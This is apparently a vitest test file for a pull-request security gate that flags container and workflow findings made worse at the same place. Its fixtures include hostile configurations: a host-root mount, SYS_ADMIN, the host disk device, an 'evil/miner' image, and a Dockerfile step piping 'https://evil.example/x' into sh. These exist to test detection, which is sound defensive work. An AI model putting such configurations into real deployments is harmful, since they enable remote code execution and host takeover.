import { describe, expect, it } from 'vitest';
import { pullRequestGate } from './pull-request-gate.js';

/**
 * A pull request that keeps a finding's place (its fingerprint) and changes what was found there
 * (review of the gate, helper-37): the finding is new, and fails the step.
 */

const QUIET = 'services:\n  web:\n    image: nginx:1.27\n';
const pullRequest = pullRequestGate(43);

describe('a value made worse at the same place is a new finding', () => {
  it.each([
    ['a read-only CA mount made a mount of the host root, on the same line', `${QUIET}    volumes:\n      - /etc/ssl/certs:/etc/ssl/certs:ro\n`, `${QUIET}    volumes:\n      - /:/host\n`, 'container\\-sensitive\\-host\\-mount'],
    ['NET_ADMIN made SYS_ADMIN', `${QUIET}    cap_add: [NET_ADMIN]\n`, `${QUIET}    cap_add: [SYS_ADMIN]\n`, 'container\\-dangerous\\-capability'],
    ['an anchor\'s capability swapped, the service\'s lines untouched', `x-caps: &caps NET_ADMIN\n${QUIET}    cap_add: [*caps]\n`, `x-caps: &caps SYS_PTRACE\n${QUIET}    cap_add: [*caps]\n`, 'container\\-dangerous\\-capability'],
    ['a host device swapped for the host\'s disk (medium, so fail-on: medium)', `${QUIET}    devices: [/dev/fuse]\n`, `${QUIET}    devices: [/dev/sda]\n`, 'container\\-host\\-device'],
  ])('%s', async (_, base, head, rule) => {
    const run = await pullRequest({ base: { 'compose.yaml': base }, head: { 'compose.yaml': head }, inputs: { 'fail-on': 'medium' } });
    expect(run.stderr).not.toMatch(/unexpected error/);
    expect(run.code).toBe(1);
    expect(run.outputs['new']).not.toBe('0');
    expect(run.summary).toContain(rule);
  }, 60_000);

  it('.env turns a CA mount under an old suppression into a mount of the host root: new, and the old comment does not cover it', async () => {
    const compose = `${QUIET}    volumes:\n      # containment: ignore[container-sensitive-host-mount] reads the host CA certificates\n      - \${CERTS}:/certs\n`;
    const run = await pullRequest({ base: { 'compose.yaml': compose, '.env': 'CERTS=/etc/ssl/certs\n' }, head: { '.env': 'CERTS=/\n' } });
    expect(run.code).toBe(1);
    expect(Number(run.outputs['new'])).toBeGreaterThanOrEqual(1);
    expect(run.summary).toMatch(/suppression\\?-beyond\\?-limit|beyond/);
  }, 60_000);

  it('an image swapped under the same floating tag is new (fail-on: medium)', async () => {
    const compose = (image: string) => `services:\n  web:\n    image: ${image}\n`;
    const run = await pullRequest({ base: { 'compose.yaml': compose('nginx:latest') }, head: { 'compose.yaml': compose('evil/miner:latest') }, inputs: { 'fail-on': 'medium' } });
    expect(run.code).toBe(1);
    expect(run.summary).toContain('image\\-latest\\-tag');
  }, 60_000);
});

describe('an edit that leaves what was found as it was keeps the finding existing', () => {
  const RISKY = `${QUIET}    cap_add: [NET_ADMIN]\n    volumes:\n      - /etc:/host/etc:ro\n      - /var/run/docker.sock:/var/run/docker.sock\n`;
  it.each([
    ['lines added above move every finding down', `# the stack\n# more words\n${RISKY}`],
    ['keys are added beside the findings and the service is written in another order', `services:\n  web:\n    hostname: web1\n    volumes:\n      - /etc:/host/etc:ro\n      - /var/run/docker.sock:/var/run/docker.sock\n    environment: [A=1]\n    cap_add: [NET_ADMIN]\n    image: nginx:1.27\n`],
    ['the mount of /etc is made writable (what the rule reports, the host path, is the same)', RISKY.replace('/etc:/host/etc:ro', '/etc:/host/etc')],
  ])('%s', async (_, head) => {
    const run = await pullRequest({ base: { 'compose.yaml': RISKY }, head: { 'compose.yaml': head } });
    expect(run.stderr).not.toMatch(/unexpected error/);
    expect(run.outputs['new']).toBe('0');
    expect(run.code).toBe(0);
  }, 60_000);

  it('a workflow that grants a write scope to one job more is new; to one job fewer, existing', async () => {
    const workflow = (jobs: string[]) => `on: push\npermissions:\n  contents: write\njobs:\n${jobs.map((job) => `  ${job}: {runs-on: ubuntu-latest, steps: [{run: echo ${job}}]}\n`).join('')}`;
    const base = { '.github/workflows/ci.yml': workflow(['build', 'lint']) };
    const inputs = { 'fail-on': 'medium' };
    const wider = await pullRequest({ base, head: { '.github/workflows/ci.yml': workflow(['build', 'lint', 'deploy']) }, inputs });
    expect(wider.code).toBe(1);
    expect(wider.summary).toContain('workflow\\-permissions\\-write\\-scope');
    const narrower = await pullRequest({ base, head: { '.github/workflows/ci.yml': workflow(['build']) }, inputs });
    expect(narrower.outputs['new']).toBe('0');
    expect(narrower.code).toBe(0);
  }, 60_000);
});

describe('command-download-piped-to-shell quotes the download\'s arguments, so a URL swapped is new (helper-41)', () => {
  const dockerfile = (url: string, comment = '') => `FROM alpine:3.20\n${comment}RUN <<EOF\nset -e\ncurl -fsSL ${url} | sh\nEOF\nUSER 1000\n`;

  it('a piped installer URL swapped for another', async () => {
    const run = await pullRequest({ base: { Dockerfile: dockerfile('https://get.trusted.example/install.sh') }, head: { Dockerfile: dockerfile('https://evil.example/x') }, inputs: { 'fail-on': 'medium' } });
    expect(run.code).toBe(1);
    expect(run.outputs['new']).not.toBe('0');
    expect(run.summary).toContain('command\\-download\\-piped\\-to\\-shell');
  }, 60_000);

  it('and under an older suppression, which then counts as made by the change', async () => {
    const comment = '# containment: ignore[command-download-piped-to-shell] vendor installer, reviewed\n';
    const run = await pullRequest({
      base: { Dockerfile: dockerfile('https://get.trusted.example/install.sh', comment), '.github/containment.yml': 'suppressions:\n  in-pull-request: up-to-low\n' },
      head: { Dockerfile: dockerfile('https://evil.example/x', comment) },
      inputs: { 'fail-on': 'medium' },
    });
    expect(run.code).toBe(1);
  }, 60_000);

  it('left alone when the change edits other lines', async () => {
    const run = await pullRequest({ base: { Dockerfile: dockerfile('https://get.trusted.example/install.sh') }, head: { Dockerfile: dockerfile('https://get.trusted.example/install.sh').replace('USER 1000', 'USER 1001') }, inputs: { 'fail-on': 'medium' } });
    expect(run.outputs['new']).toBe('0');
    expect(run.code).toBe(0);
  }, 60_000);
});
